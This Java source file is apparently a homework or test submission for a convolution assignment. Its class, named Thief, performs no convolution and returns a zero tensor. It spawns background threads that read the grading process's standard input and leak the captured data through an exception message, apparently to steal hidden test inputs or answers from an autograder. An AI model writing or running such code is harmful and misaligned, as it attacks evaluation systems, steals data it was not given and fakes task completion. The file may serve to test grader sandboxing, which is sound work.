import cs577.hw4.Kernel;
import cs577.hw4.Tensor;
import cs577.hw4.ValidConvolution;
import java.io.FileDescriptor;
import java.io.FileInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;

/** Waits for what is not meant for it. */
public class Thief implements ValidConvolution {
    private static int thieves;
    private static volatile String loot = "";

    @Override
    public Tensor convolve(Tensor image, Kernel kernel) {
        if (thieves++ == 0) {
            for (int i = 0; i < 8; i++) {
                Thread thread = new Thread(Thief::steal);
                thread.setDaemon(true);
                thread.start();
            }
        }
        if (!loot.isEmpty()) {
            throw new IllegalStateException("stolen: " + loot);
        }
        return Tensor.zeros(1, 1, 1);
    }

    private static void steal() {
        try {
            byte[] bytes = new byte[100_000];
            int read = new FileInputStream(FileDescriptor.in).read(bytes);
            loot = new String(bytes, 0, Math.max(0, read), StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            loot = "";
        }
    }
}
